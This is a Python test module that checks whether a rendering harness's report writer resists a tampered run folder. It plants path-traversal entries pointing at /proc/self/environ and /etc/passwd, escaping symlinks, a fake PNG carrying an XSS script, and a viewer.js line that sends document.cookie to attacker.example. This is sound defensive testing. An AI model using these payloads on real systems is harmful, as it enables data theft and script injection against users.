"""A run folder someone else wrote (issue 32): every path its results.json (or studies.json) names is followed only
inside the run folder, after symlinks; every file the report copies in is checked for what its name says and copied,
never hard-linked; no script of the run folder is shipped as it was (viewer.js is parsed and written again).

One real run of a tiny suite (two furnace cases, 8 x 8 pixels, 2 spp, closed form) for the module; each test plants
its attack in a copy of it and looks for a secret, kept outside the copy, in every byte of the report.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT
from test_hostile_results import real  # noqa: F401 - the fixture: one real run of the two-furnace suite

from harness.files import viewer_data
from harness.report import write_suite_report

pytestmark = pytest.mark.slow  # renders once, and one test starts a process

SECRET = b"SECRET-7f3a9c-do-not-leak"
EXR_MAGIC = b"\x76\x2f\x31\x01"
CASE = "furnace_a"  # the first case's folder


@pytest.fixture
def run(real, tmp_path) -> Path:
    """A copy of the real run in tmp/run, its results.json naming its own files; tmp/outside holds the secret (an
    OpenEXR file's magic number, then the secret) and is outside the run folder."""
    copy = tmp_path / "run"
    shutil.copytree(real["dir"], copy, symlinks=True)
    text = (copy / "results.json").read_text().replace(str(real["dir"]), str(copy))
    (copy / "results.json").write_text(text)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.exr").write_bytes(EXR_MAGIC + SECRET)
    (outside / "secret.txt").write_bytes(SECRET)
    return copy


def results(run: Path) -> dict:
    return json.loads((run / "results.json").read_text())


def save(run: Path, doc: dict) -> None:
    (run / "results.json").write_text(json.dumps(doc, indent=1))


def report(run: Path) -> tuple[Path, dict]:
    """The report written into run/rep (away from the run's own files): (its folder, report.json)."""
    out = run / "rep"
    write_suite_report(run / "results.json", out)
    return out, json.loads((out / "report.json").read_text())


def assert_clean(out: Path, *secrets: bytes) -> None:
    """No file of the report holds a secret, none is a link (hard or symbolic) into anything else."""
    files = sorted(path for path in out.rglob("*") if path.is_file() and not path.is_symlink())
    for path in files:
        data = path.read_bytes()
        for secret in (SECRET,) + secrets:
            assert secret not in data, f"{path} holds {secret!r}"
    for path in out.rglob("*"):
        assert not path.is_symlink(), path
    for path in files:
        assert os.stat(path).st_nlink == 1, f"{path} is a hard link"


def problems(doc: dict, index: int = 0) -> str:
    return " | ".join(doc["cases"][index]["problems"])


def outside_copy_of(folder: Path, dest: Path) -> Path:
    """``folder`` copied outside the run, each file with the secret appended (a valid PNG / EXR / viewer.js
    stays one for its first bytes)."""
    shutil.copytree(folder, dest)
    for path in dest.iterdir():
        if path.is_file():
            path.write_bytes(path.read_bytes() + SECRET)
    return dest


# ---- item 1: paths in results.json stay inside the run folder ------------------------------------------------------


def test_verdict_maps_naming_a_file_outside_the_run_folder_are_not_copied(run):
    doc = results(run)
    doc["cases"][0]["verdict_maps"] = {"pvalue": str(run.parent / "outside" / "secret.exr"),
                                       "failing": str(run.parent / "outside" / "secret.txt")}
    save(run, doc)
    out, rep = report(run)
    assert_clean(out)
    assert "verdict_maps.pvalue names" in problems(rep) and "outside the run folder: not read" in problems(rep)
    # the run's own maps, beside its render, are found instead (copied: the report's files are its own)
    placed = out / "report" / CASE / "pvalue.exr"
    assert placed.read_bytes() == (run / "cases" / CASE / "pvalue.exr").read_bytes()


def test_verdict_maps_naming_proc_self_environ_do_not_copy_the_environment(run, tmp_path):
    doc = results(run)
    doc["cases"][0]["verdict_maps"] = {"pvalue": "/proc/self/environ", "failing": "/etc/passwd"}
    save(run, doc)
    out = tmp_path / "rep"
    env = dict(os.environ, PYTHONPATH=str(ROOT), HARNESS_TOKEN=SECRET.decode())
    done = subprocess.run([sys.executable, "-m", "harness", "report", str(run / "results.json"), "--out", str(out),
                           "--quiet"], env=env, capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert_clean(out, b"root:x:0:0")
    assert "/proc/self/environ" in problems(json.loads((out / "report.json").read_text()))


def test_report_images_folder_outside_the_run_folder_is_not_read(run):
    outside = outside_copy_of(run / "cases" / CASE / "images", run.parent / "outside" / "images")
    doc = results(run)
    doc["cases"][0]["report_images"]["folder"] = str(outside)
    save(run, doc)
    out, rep = report(run)
    assert_clean(out)
    assert "report_images.folder names" in problems(rep)
    assert [im["key"] for im in rep["cases"][0]["images"]][:2] == ["ground_truth", "render"]  # from the run's own


def test_viewer_folder_outside_the_run_folder_is_not_read(run):
    outside = outside_copy_of(run / "cases" / CASE, run.parent / "outside" / "case")
    script = (outside / "viewer.js").read_bytes().replace(SECRET, b"")
    (outside / "viewer.js").write_bytes(script.replace(b'"name":"furnace/a"', b'"name":"' + SECRET + b'"'))
    doc = results(run)
    doc["cases"][0]["viewer"]["folder"] = str(outside)
    save(run, doc)
    out, rep = report(run)
    assert_clean(out)
    assert "viewer.folder names" in problems(rep) and rep["cases"][0]["viewer"] is not None


def test_symlinks_inside_the_run_folder_that_lead_outside_are_not_followed(run):
    case = run / "cases" / CASE
    outside = outside_copy_of(case / "images", run.parent / "outside" / "images")
    shutil.rmtree(case / "images")
    (case / "images").symlink_to(outside)  # the folder results.json names, a symlink out of the run
    (case / "pvalue.exr").unlink()
    (case / "pvalue.exr").symlink_to(run.parent / "outside" / "secret.exr")
    (case / "thumbnail.png").unlink()
    (case / "thumbnail.png").symlink_to(outside / "render.png")
    (case / "render.exr").unlink()
    (case / "render.exr").symlink_to(outside / "render.exr")
    out, rep = report(run)
    assert_clean(out)
    assert "outside the run folder" in problems(rep)
    assert not (out / "report" / CASE / "pvalue.exr").exists()


def _cache_entry(cache: Path, image: Path) -> Path:
    """A ground-truth cache entry under ``cache`` holding ``image``: its image.exr."""
    entry = cache / "groundtruth" / "k"
    entry.mkdir(parents=True)
    shutil.copy(image, entry / "image.exr")
    (entry / "meta.json").write_text("{}")
    return entry / "image.exr"


def test_render_and_ground_truth_paths_outside_the_run_folder_are_not_read(run, monkeypatch):
    """A record without report images or viewer (an older run's): the report reads the case's EXRs, only the run's
    own; the ground truth may be a ground-truth cache entry's image in this process's cache folder."""
    import numpy as np

    from harness.files.imageio import read_exr, write_exr

    outside = run.parent / "outside"
    planted = np.full((8, 8, 3), 123.0, np.float32)
    write_exr(outside / "render.exr", planted, planted)
    write_exr(outside / "truth.exr", planted, planted)
    monkeypatch.setenv("HARNESS_CACHE_DIR", str(outside / "cache"))
    entry = _cache_entry(outside / "cache", run / "cases" / CASE / "ground_truth.exr")  # in the cache: allowed
    doc = results(run)
    for record in doc["cases"]:
        record.pop("report_images")
        record.pop("viewer")
    doc["cases"][0]["render"]["exr"] = str(outside / "render.exr")
    doc["cases"][0]["ground_truth"]["path"] = str(outside / "truth.exr")
    doc["cases"][1]["ground_truth"]["path"] = str(entry)
    save(run, doc)
    out, rep = report(run)
    assert "render.exr names" in problems(rep) and "ground_truth.path names" in problems(rep)
    assert problems(rep, 1) == ""
    for name in (CASE, "furnace_b"):  # made from the run's own render and ground truth
        for image in ("render.exr", "ground_truth.exr"):
            assert float(read_exr(out / "report" / name / image).image.max()) < 100
    assert_clean(out)


def test_a_ground_truth_shaped_like_a_cache_entry_outside_the_cache_folders_is_not_read(run):
    """Only the cache folders of this process ($HARNESS_CACHE_DIR or the user's, a --cache-dir given) hold ground
    truths a record may name outside its run folder: a planted <x>/groundtruth/<key>/image.exr elsewhere is not."""
    import numpy as np

    from harness.files.imageio import read_exr, write_exr

    planted = np.full((8, 8, 3), 123.0, np.float32)
    write_exr(run.parent / "truth.exr", planted, planted)
    entry = _cache_entry(run.parent / "elsewhere", run.parent / "truth.exr")
    doc = results(run)
    for record in doc["cases"]:  # no images made by the run: the report reads the EXRs
        record.pop("report_images")
        record.pop("viewer")
    doc["cases"][1]["ground_truth"]["path"] = str(entry)
    save(run, doc)
    out, rep = report(run)
    assert "ground_truth.path names" in problems(rep, 1)
    shown = out / "report" / "furnace_b" / "ground_truth.exr"  # the run's own ground truth, not the planted one
    assert not shown.exists() or float(read_exr(shown).image.max()) < 100
    assert_clean(out)


def test_a_symlink_that_stays_inside_the_run_folder_is_followed(run):
    case = run / "cases" / CASE
    (run / "elsewhere").mkdir()
    shutil.move(case / "pvalue.exr", run / "elsewhere" / "pvalue.exr")
    (case / "pvalue.exr").symlink_to(run / "elsewhere" / "pvalue.exr")
    out, rep = report(run)
    assert problems(rep) == ""
    assert (out / "report" / CASE / "pvalue.exr").read_bytes() == (run / "elsewhere" / "pvalue.exr").read_bytes()


def test_a_file_named_png_that_is_not_a_png_is_not_shipped(run):
    case = run / "cases" / CASE
    payload = b"<html><script>alert(document.cookie)</script>" + SECRET
    (case / "images" / "render.png").write_bytes(b"\x89PNG\r\n\x1a\n" + payload)  # the signature, then no PNG
    (case / "thumbnail.png").write_bytes(payload)
    out, rep = report(run)
    assert_clean(out, b"alert(document.cookie)")
    assert "not a PNG image: not used" in problems(rep)
    # both made again from the case's EXRs
    assert (out / "report" / CASE / "render.png").read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
    assert rep["cases"][0]["viewer"] is not None


def test_a_device_or_fifo_named_as_an_image_is_not_read(run):
    case = run / "cases" / CASE
    (case / "failing.exr").unlink()
    os.mkfifo(case / "failing.exr")  # opening it for reading would wait for a writer forever
    out, rep = report(run)
    assert "not a regular file" in problems(rep)
    assert not (out / "report" / CASE / "failing.exr").exists()


# ---- item 3: no script of the run folder is shipped --------------------------------------------------------------


def test_a_viewer_js_with_a_script_after_its_first_bytes_is_never_shipped(run):
    case = run / "cases" / CASE
    original = (case / "viewer.js").read_text()
    head, rest = original.split("\n", 1)
    evil = f"{head}\nfetch('https://attacker.example/?'+document.cookie);\n{rest}"
    assert evil[:16] == original[:16]  # the check of today's harness: its first 16 bytes
    (case / "viewer.js").write_text(evil)
    (run / "cases" / "furnace_b" / "viewer.js").write_text(original.replace("HarnessViewer.register(",
                                                                           "HarnessViewer.register(alert(1),"))
    out, rep = report(run)
    assert_clean(out, b"attacker.example", b"alert(1)")
    for index, name in ((0, CASE), (1, "furnace_b")):
        assert "is not a viewer.js of the harness" in problems(rep, index)
        shipped = (out / "report" / name / "viewer.js").read_text()
        assert viewer_data.parse_viewer_script(shipped.encode())  # made again from the EXRs: the harness's own


def test_a_sound_viewer_js_is_written_again_not_copied(run):
    """Valid data is parsed and written again by the harness: the same text, in a file of the report's own."""
    out, rep = report(run)
    assert problems(rep) == "" and problems(rep, 1) == ""
    for name in (CASE, "furnace_b"):
        shipped, source = out / "report" / name / "viewer.js", run / "cases" / name / "viewer.js"
        assert shipped.read_text() == source.read_text()
        assert shipped.stat().st_ino != source.stat().st_ino
    assert_clean(out)


def test_the_viewer_payload_is_parsed_strictly():
    """parse_viewer_script takes only what viewer_script writes: strict JSON of the payload's shape."""
    payload = {"format": 1, "name": "x</script>", "width": 1, "height": 1, "exposure": 0.0, "labels": {},
               "planes": {"render": viewer_data.encode_plane(__import__("numpy").ones((1, 1, 3)))}, "tiles": None,
               "note": None}
    text = viewer_data.viewer_script(payload)
    assert viewer_data.parse_viewer_script(text.encode()) == payload
    head, tail = text.split("HarnessViewer.register(")
    bad = {
        "NaN": text.replace('"exposure":0.0', '"exposure":NaN'),
        "deep": f"{head}HarnessViewer.register({'[' * 100000}{']' * 100000});\n",
        "code": text.replace("HarnessViewer.register(", "HarnessViewer.register(eval('1'),"),
        "after": text + "alert(1);\n",
        "short plane": text.replace(payload["planes"]["render"]["data"], "AAAA"),
        "bad encoding": text.replace('"encoding":"f16"', '"encoding":"js"'),
    }
    for why, variant in bad.items():
        with pytest.raises(ValueError):
            viewer_data.parse_viewer_script(variant.encode())
            pytest.fail(why)


# ---- studies.json's files --------------------------------------------------------------------------------------


def test_a_studies_folder_that_is_a_symlink_out_of_the_run_folder_is_not_read(run):
    outside = run.parent / "outside" / "studies"
    (outside / "convergence").mkdir(parents=True)
    (outside / "convergence" / "plot.png").write_bytes((run / "cases" / CASE / "thumbnail.png").read_bytes() + SECRET)
    doc = {"schema": 1, "kind": "suite-studies", "convergence": {"spp_ladder": [1, 2], "k": 2, "scenes": [
        {"scene_name": "furnace", "case": "furnace/a", "plot": "convergence/plot.png", "error": None,
         "result": None}]}}
    (outside / "studies.json").write_text(json.dumps(doc))
    shutil.rmtree(run / "studies", ignore_errors=True)
    (run / "studies").symlink_to(outside)
    out, _ = report(run)
    assert_clean(out)


# ---- a resumed harness run over a planted results.json -------------------------------------------------------


def test_a_resumed_run_does_not_keep_records_that_name_files_outside(run, real, capfd):
    from harness.cli import main

    outside = outside_copy_of(run / "cases" / CASE / "images", run.parent / "outside" / "images")
    doc = results(run)
    doc["cases"][0]["verdict_maps"]["pvalue"] = str(run.parent / "outside" / "secret.exr")
    doc["cases"][0]["report_images"]["folder"] = str(outside)
    doc["cases"][0]["render"]["exr"] = str(run.parent / "outside" / "secret.exr")
    save(run, doc)
    shutil.rmtree(run / "report", ignore_errors=True)
    code = main(["run", str(real["suite"]), "--out", str(run), "--quiet", "--executor", "serial", "--no-convergence",
                 "--no-shadow-rays", "--no-strategies"])
    err = capfd.readouterr().err
    assert code == 0, err
    after = results(run)
    assert "resuming: 1 of 2 cases done" in err
    assert not after["cases"][0].get("resumed") and after["cases"][1]["resumed"]
    assert str(run.parent / "outside") not in (run / "results.json").read_text()
    for name in ("index.html", "report.json", "summary.md"):
        assert SECRET not in (run / name).read_bytes()
    assert_clean(run / "report")
